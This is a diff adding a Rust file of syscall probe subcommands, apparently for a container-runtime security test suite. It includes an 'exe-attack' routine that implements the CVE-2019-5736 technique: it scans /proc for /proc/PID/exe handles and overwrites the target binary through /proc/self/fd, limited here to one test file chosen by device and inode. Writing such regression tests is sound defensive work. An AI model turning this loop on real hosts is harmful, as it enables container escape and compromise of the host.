@@ -1,0 +1,184 @@
+//! Probe subcommands that make one system call and print what happened as one JSON object
+//! (`{"ok": bool, "errno": N, ...}`, exit status 0 either way), and the CVE-2019-5736 loop
+//! (which only ever writes to the one file it is given).
+use serde_json::{json, Value};
+use std::ffi::CString;
+use std::fs;
+use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
+use std::os::unix::fs::{FileTypeExt, MetadataExt};
+use std::time::{Duration, Instant};
+
+fn errno() -> i32 {
+    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
+}
+
+fn cstr(path: &str) -> Result<CString, String> {
+    CString::new(path).map_err(|e| format!("{path}: {e}"))
+}
+
+fn outcome(ret: i64) -> Value {
+    match ret {
+        -1 => json!({"ok": false, "errno": errno()}),
+        r => json!({"ok": true, "ret": r, "errno": 0}),
+    }
+}
+
+/// `mkdir PATH`
+pub fn mkdir(path: &str) -> Result<Value, String> {
+    let p = cstr(path)?;
+    // SAFETY: p is a valid NUL-terminated string.
+    Ok(outcome(unsafe { libc::mkdir(p.as_ptr(), 0o755) } as i64))
+}
+
+/// `personality N` (decimal or 0x-hex)
+pub fn personality(arg: &str) -> Result<Value, String> {
+    let n = match arg.strip_prefix("0x") {
+        Some(hex) => u64::from_str_radix(hex, 16),
+        None => arg.parse(),
+    }
+    .map_err(|e| format!("personality {arg}: {e}"))?;
+    // SAFETY: personality(2) takes a plain integer.
+    Ok(outcome(
+        unsafe { libc::personality(n as libc::c_ulong) } as i64
+    ))
+}
+
+/// `open PATH r|w`: open, then read or write one byte.
+pub fn open(path: &str, mode: &str) -> Result<Value, String> {
+    let p = cstr(path)?;
+    let flags = if mode == "w" {
+        libc::O_WRONLY
+    } else {
+        libc::O_RDONLY
+    };
+    // SAFETY: p is a valid NUL-terminated string.
+    let fd = unsafe { libc::open(p.as_ptr(), flags | libc::O_CLOEXEC) };
+    if fd < 0 {
+        return Ok(outcome(-1));
+    }
+    // SAFETY: fd was just returned by open(2) and is owned by nobody else.
+    let fd = unsafe { OwnedFd::from_raw_fd(fd) };
+    let mut byte = [0u8; 1];
+    // SAFETY: the buffer is valid for one byte.
+    let n = unsafe {
+        match mode {
+            "w" => libc::write(fd.as_raw_fd(), byte.as_ptr().cast(), 1),
+            _ => libc::read(fd.as_raw_fd(), byte.as_mut_ptr().cast(), 1),
+        }
+    };
+    Ok(outcome(n as i64))
+}
+
+/// `stat PATH` (follows symlinks): type letter, major/minor, size.
+pub fn stat(path: &str) -> Result<Value, String> {
+    let m = match fs::metadata(path) {
+        Ok(m) => m,
+        Err(e) => return Ok(json!({"ok": false, "errno": e.raw_os_error()})),
+    };
+    let t = m.file_type();
+    let kind = match () {
+        _ if t.is_dir() => "d",
+        _ if t.is_char_device() => "c",
+        _ if t.is_block_device() => "b",
+        _ if t.is_fifo() => "p",
+        _ if t.is_socket() => "s",
+        _ => "f",
+    };
+    let rdev = m.rdev();
+    let major = ((rdev >> 32) & 0xffff_f000) | ((rdev >> 8) & 0xfff);
+    let minor = ((rdev >> 12) & 0xffff_ff00) | (rdev & 0xff);
+    Ok(json!({"ok": true, "type": kind, "major": major, "minor": minor, "size": m.len()}))
+}
+
+/// `exe-attack --only DEV:INO --out PATH --stop PATH [--mark PATH]`: the CVE-2019-5736
+/// pattern, aimed at one file only (the test's private copy of the runtime, identified by
+/// device and inode) so that it can never damage anything else. Until the stop file appears
+/// (at most 120 s), take an O_PATH handle to `/proc/PID/exe` of every other process in sight
+/// (again whenever its exe changes) and, where it is the target, try to open it for writing,
+/// directly and through `/proc/self/fd/N` (which works once nothing executes the file any
+/// more). A successful open writes a few bytes: the host then finds its binary changed. The
+/// mark is written after the first round; after the stop file a last pass over the held fds;
+/// a summary goes to `--out`.
+pub fn exe_attack(only: &str, out: &str, stop: &str, mark: Option<&str>) -> Result<(), String> {
+    let target: (u64, u64) = only
+        .split_once(':')
+        .and_then(|(d, i)| Some((d.parse().ok()?, i.parse().ok()?)))
+        .ok_or(format!("--only {only:?}: want DEV:INO"))?;
+    let is_target = |path: &str| {
+        fs::metadata(path)
+            .map(|m| (m.dev(), m.ino()) == target)
+            .unwrap_or(false)
+    };
+    let own = std::process::id().to_string();
+    let mut seen = std::collections::HashSet::new();
+    let mut held: Vec<(String, OwnedFd)> = Vec::new();
+    let (mut rounds, mut written) = (0u64, Vec::<String>::new());
+    let deadline = Instant::now() + Duration::from_secs(120);
+    let attack_held = |held: &[(String, OwnedFd)], written: &mut Vec<String>, note: &str| {
+        for (what, fd) in held {
+            let path = format!("/proc/self/fd/{}", fd.as_raw_fd());
+            if is_target(&path) && try_write(&path) {
+                written.push(format!("{what} ({note})"));
+            }
+        }
+    };
+    while !std::path::Path::new(stop).exists() && Instant::now() < deadline {
+        rounds += 1;
+        for e in fs::read_dir("/proc")
+            .map_err(|e| format!("/proc: {e}"))?
+            .flatten()
+        {
+            let pid = e.file_name().to_string_lossy().into_owned();
+            if !pid.bytes().all(|b| b.is_ascii_digit()) || pid == own {
+                continue;
+            }
+            let exe = format!("/proc/{pid}/exe");
+            if is_target(&exe) && try_write(&exe) {
+                written.push(exe.clone());
+            }
+            let link = fs::read_link(&exe).map(|t| t.display().to_string());
+            if !seen.insert((pid, link.unwrap_or_default())) || held.len() >= 512 {
+                continue;
+            }
+            let p = cstr(&exe)?;
+            // SAFETY: p is a valid NUL-terminated string.
+            let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+            if fd >= 0 {
+                // SAFETY: fd was just returned by open(2) and is owned here only.
+                held.push((exe, unsafe { OwnedFd::from_raw_fd(fd) }));
+            }
+        }
+        attack_held(&held, &mut written, "held");
+        if let (1, Some(m)) = (rounds, mark) {
+            fs::write(m, "started\n").map_err(|e| format!("write {m}: {e}"))?;
+        }
+        std::thread::sleep(Duration::from_millis(2));
+    }
+    // Once more: by the time the stop file appears no runtime process runs the file.
+    attack_held(&held, &mut written, "held, last pass");
+    let targets = held
+        .iter()
+        .filter(|(_, fd)| is_target(&format!("/proc/self/fd/{}", fd.as_raw_fd())))
+        .count();
+    let summary =
+        json!({"rounds": rounds, "held": held.len(), "held_target": targets, "written": written});
+    fs::write(out, format!("{summary}\n")).map_err(|e| format!("write {out}: {e}"))
+}
+
+/// Opens `path` for writing without truncating and overwrites its first bytes; true if the
+/// write went through.
+fn try_write(path: &str) -> bool {
+    let Ok(p) = CString::new(path) else {
+        return false;
+    };
+    // SAFETY: p is a valid NUL-terminated string.
+    let fd = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
+    if fd < 0 {
+        return false;
+    }
+    // SAFETY: fd is open for writing; the buffer is valid for its length.
+    let n = unsafe { libc::write(fd, b"PWNED".as_ptr().cast(), 5) };
+    // SAFETY: fd is ours and closed once.
+    unsafe { libc::close(fd) };
+    n == 5
+}
